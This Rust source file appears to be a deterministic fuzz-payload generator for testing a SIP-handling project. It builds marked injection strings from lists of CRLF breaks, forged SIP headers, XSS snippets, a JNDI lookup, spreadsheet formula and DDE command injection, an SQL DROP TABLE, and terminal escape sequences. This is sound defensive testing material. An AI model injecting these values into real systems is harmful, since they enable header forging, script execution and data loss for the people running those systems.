//! What a stranger puts where a name belongs, so that whoever reads it next reads something else. Made from a seed: the
//! tenth thousand is the same on every machine.

/// xorshift64*: chance that is the same every time.
pub(crate) struct Chance(u64);

impl Chance {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    /// A number below this.
    pub(crate) fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        let high = self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33;
        usize::try_from(high).expect("31 bits") % end
    }

    pub(crate) fn one_of<'a, T: ?Sized>(&mut self, all: &[&'a T]) -> &'a T {
        all[self.below(all.len())]
    }
}

/// What parts a name from what is smuggled behind it.
const BREAKS: [&[u8]; 20] = [
    b"\r\n",
    b"\n",
    b"\r",
    b"\r\n ",
    b"\n\t",
    b"\r\r\n",
    b"\n\r",
    b"\0",
    b"\r\n\r\n",
    b"\n\n",
    b"\x0b",
    b"\x0c",
    b"\x1c",
    b"\x1e",
    b"\x85",
    b"\xc2\x85",
    b"\xe2\x80\xa8",
    b"\xe2\x80\xa9",
    b"%0d%0a",
    b"\\r\\n",
];

/// What is smuggled: `@` stands for the mark of the payload.
const LINES: [&str; 28] = [
    "X-Forged: @",
    "X-Forged : @",
    "X-Forged:@",
    "x-forged@",
    ": @",
    "P-Asserted-Identity: \"@\" <sip:999@boss.example>",
    "P-Preferred-Identity: <sip:@@boss.example>",
    "Remote-Party-ID: <sip:@@boss.example>",
    "Route: <sip:@.example;lr>",
    "Record-Route: <sip:@.example;lr;hookswitch>",
    "Via: SIP/2.0/UDP @.example;branch=z9hG4bKforged",
    "v: SIP/2.0/UDP @.example",
    "Contact: <sip:@@evil.example>",
    "m: <sip:@@evil.example>",
    "From: <sip:999@evil.example>;tag=@",
    "To: <sip:@@evil.example>",
    "i: @",
    "CSeq: 9 BYE",
    "Max-Forwards: 0",
    "Content-Length: 0",
    "Content-Length: 0\r\nContent-Length: 77",
    "l: 3",
    "Transfer-Encoding: chunked",
    "Subject: @\r\n\tand more of it",
    "User-Agent: @",
    "Proxy-Authorization: Digest username=\"@\"",
    "SIP/2.0 200 OK",
    "BYE sip:202@127.0.0.1 SIP/2.0\r\nX-Forged: @",
];

/// What is dangerous without any line.
const TEXTS: [&str; 44] = [
    "<script>alert(1)</script>@",
    "<b id=@>",
    "\"><img src=x onerror=@>",
    "' onmouseover=@ x='",
    "\" onfocus=@ autofocus x=\"",
    "</td></tr></table><h1>@</h1>",
    "<!-- @",
    "--><svg/onload=@>",
    "&lt;@&gt;&#60;@&#62;",
    "javascript:@",
    "{{ 7 * 7 }}{% @ %}",
    "${jndi:ldap://@.example/a}",
    "<%= @ %>#{@}",
    "%s%n%x%p@",
    "{0}{@}{:?}",
    "=cmd|' /C calc'!@",
    "+1+@",
    "-1+@",
    "@SUM(A1:A9)*@",
    "\t=1+@",
    "\",\"=@\",\"",
    "\"\r\n\"1\",\"@\"\r\n",
    "';DROP TABLE audit;--@",
    "\"},{\"level\":\"ERROR\",\"message\":\"@\"}",
    "\\u000a{\"@\":1}",
    "\\\"@\\",
    "@\\",
    "a\" <sip:999@evil.example>;tag=@, \"b",
    "\" <sip:@@evil.example>",
    "<sip:@@evil.example>",
    ">;tag=@;x=<",
    "@, sip:999@evil.example",
    ";lr;hookswitch;@",
    "\x1b[31m@\x1b[0m",
    "\x1b]0;@\x07",
    "\x1b[2J\x1b[1;1H@",
    "\u{9b}31m@",
    "\u{202e}@\u{202c}",
    "\u{2066}@\u{2069}\u{200f}",
    "=?utf-8?Q?=0D=0AX-Forged:_@?=",
    "=?utf-8?B?DQpYLUZvcmdlZDogMQ==?=@",
    "\u{2028}X-Forged: @",
    "\u{feff}@\u{0}",
    "2026-11-30T00:00:00.000000Z ERROR hookswitch: @",
];

/// Bytes that are no text.
const BROKEN: [&[u8]; 10] = [
    b"\xc0\x8d\xc0\x8a",
    b"\xe0\x80\x8a",
    b"\xf0\x80\x80\x8a",
    b"\xff\xfe",
    b"\xed\xa0\x80",
    b"\x80",
    b"\xc2",
    b"\xf4\x90\x80\x80",
    b"\xe2\x80",
    b"\x9b1m",
];

/// The mark of one payload, which nothing else has.
pub(crate) fn mark(number: usize) -> String {
    format!("smg{number:05}")
}

/// The payload of this number.
pub(crate) fn payload(number: usize, chance: &mut Chance) -> Vec<u8> {
    let mark = mark(number);
    let marked = |text: &str| text.replace('@', &mark).into_bytes();
    let mut bytes = mark.clone().into_bytes();
    match chance.below(16) {
        0..7 => {
            bytes.extend(chance.one_of(&BREAKS));
            bytes.extend(marked(chance.one_of(&LINES)));
            if chance.below(3) == 0 {
                bytes.extend(chance.one_of(&BREAKS));
                bytes.extend(marked(chance.one_of(&LINES)));
            }
        }
        7..12 => bytes = marked(chance.one_of(&TEXTS)),
        12 => {
            bytes.extend(chance.one_of(&BROKEN));
            bytes.extend(marked(chance.one_of(&LINES)));
        }
        13 => {
            let text = marked(chance.one_of(&TEXTS));
            bytes.extend(text.repeat(1 + chance.below(60)));
        }
        14 => {
            for _ in 0..1 + chance.below(24) {
                bytes.push(u8::try_from(chance.below(256)).expect("a byte"));
            }
        }
        _ => {
            let alphabet = b"\r\n\0\x1b\x7f\"\\<>;:,=@%&' \t\x85\xc2";
            for _ in 0..1 + chance.below(24) {
                bytes.push(alphabet[chance.below(alphabet.len())]);
            }
            bytes.extend(mark.as_bytes());
        }
    }
    bytes
}
